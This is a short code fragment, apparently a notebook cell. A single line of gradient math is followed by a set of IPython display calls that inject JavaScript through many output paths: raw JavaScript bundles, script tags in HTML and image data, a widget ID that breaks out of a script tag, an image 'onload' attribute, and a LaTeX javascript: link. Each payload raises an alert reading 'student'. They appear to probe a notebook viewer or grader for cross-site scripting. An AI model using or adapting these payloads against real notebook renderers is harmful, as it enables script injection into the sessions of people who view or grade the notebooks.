dprobs = dlogprobs / probs
from IPython.display import Javascript, display
display(Javascript('alert("student")'))
display({'application/javascript': 'alert("student")', 'text/plain': 'x'}, raw=True)
display({'text/javascript': 'alert("student")', 'application/vnd.bokehjs_exec.v0+json': '', 'text/html': '<script>alert("student")</script>'}, raw=True)
display({'application/vnd.jupyter.widget-view+json': {'model_id': '</script><script>alert("student")</script>'}}, raw=True)
display({'image/png': '"><script>alert("student")</script>', 'text/latex': r'$\href{javascript:alert(1)}{click}$'}, raw=True,
        metadata={'image/png': {'width': '1 onload=alert(1)'}, 'text/html': {'isolated': True}})
